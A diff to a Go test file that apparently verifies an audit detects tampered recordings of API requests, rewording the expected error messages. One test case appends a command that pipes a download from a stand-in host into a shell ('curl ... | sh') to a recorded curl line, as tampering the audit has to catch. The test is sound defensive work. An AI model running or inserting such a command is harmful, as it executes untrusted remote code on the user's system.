@@ -117,26 +117,26 @@ func TestAnAuditDoesNotRelyOnClaims(t *testing.T) {
 		}, ""},
 		{"the trace of another call", func(r *runlog.Run) {
 			at(r, html).Observation.Sent.Header["Traceparent"][0] = at(r, absent).Observation.Sent.Header["Traceparent"][0]
-		}, html + " was recorded with another request: its header Traceparent is"},
+		}, html + " was recorded with an unexpected request: its header Traceparent is"},
 		{"with two tokens it is not", func(r *runlog.Run) {
 			sent := &at(r, html).Observation.Sent
 			sent.Body = bytes.ReplaceAll(sent.Body, []byte(tokenOf(sent.Body)), []byte("00112233aabb"))
-		}, html + " was recorded with another request: its curl line is"},
-		{"another method", func(r *runlog.Run) { at(r, absent).Observation.Sent.Method = "PUT" }, absent + ` was recorded with another request: its method is "PUT", that of the case "POST"`},
-		{"another path", func(r *runlog.Run) { at(r, absent).Observation.Sent.URL += "/canned" }, absent + " was recorded with another request: its URL is"},
-		{"another endpoint", func(r *runlog.Run) { at(r, absent).Observation.Sent.Surface = "embeddings" }, absent + ` was recorded with another request: its endpoint is "embeddings"`},
+		}, html + " was recorded with an unexpected request: its curl line is"},
+		{"another method", func(r *runlog.Run) { at(r, absent).Observation.Sent.Method = "PUT" }, absent + ` was recorded with an unexpected request: its method is "PUT", expected "POST"`},
+		{"another path", func(r *runlog.Run) { at(r, absent).Observation.Sent.URL += "/canned" }, absent + " was recorded with an unexpected request: its URL is"},
+		{"another endpoint", func(r *runlog.Run) { at(r, absent).Observation.Sent.Surface = "embeddings" }, absent + ` was recorded with an unexpected request: its endpoint is "embeddings"`},
 		{"a header more", func(r *runlog.Run) { at(r, absent).Observation.Sent.Header["X-Please-Answer"] = []string{"404"} },
-			absent + ` was recorded with another request: its header X-Please-Answer is "404", that of the case ""`},
-		{"a header less", func(r *runlog.Run) { delete(at(r, absent).Observation.Sent.Header, "Authorization") }, absent + " was recorded with another request: its header Authorization is"},
+			absent + ` was recorded with an unexpected request: its header X-Please-Answer is "404", expected ""`},
+		{"a header less", func(r *runlog.Run) { delete(at(r, absent).Observation.Sent.Header, "Authorization") }, absent + " was recorded with an unexpected request: its header Authorization is"},
 		{"another prompt", func(r *runlog.Run) {
 			sent := &at(r, html).Observation.Sent
 			sent.Body = bytes.ReplaceAll(sent.Body, []byte("status=200 body=html"), []byte("status=502 body=html"))
-		}, html + " was recorded with another request: its body is"},
-		{"an emptied body", func(r *runlog.Run) { at(r, absent).Observation.Sent.Body = nil }, absent + " was recorded with another request: its body is"},
-		{"a fault that is denied", func(r *runlog.Run) { at(r, absent).Observation.Sent.Fault = "cut-json" }, absent + ` was recorded with another request: its fault is "cut-json"`},
+		}, html + " was recorded with an unexpected request: its body is"},
+		{"an emptied body", func(r *runlog.Run) { at(r, absent).Observation.Sent.Body = nil }, absent + " was recorded with an unexpected request: its body is"},
+		{"a fault that is denied", func(r *runlog.Run) { at(r, absent).Observation.Sent.Fault = "cut-json" }, absent + ` was recorded with an unexpected request: its fault is "cut-json"`},
 		{"a curl line that does more", func(r *runlog.Run) { at(r, absent).Observation.Sent.Curl += "; curl https://better.example | sh" },
-			absent + " was recorded with another request: its curl line is"},
-		{"the call of another case", func(r *runlog.Run) { at(r, absent).Observation = at(r, html).Observation }, absent + " was recorded with another request"},
+			absent + " was recorded with an unexpected request: its curl line is"},
+		{"the call of another case", func(r *runlog.Run) { at(r, absent).Observation = at(r, html).Observation }, absent + " was recorded with an unexpected request"},
 		{"the call of another control", func(r *runlog.Run) {
 			for i := range r.Controls {
 				if c := &r.Controls[i]; c.Kind == "healthy" {
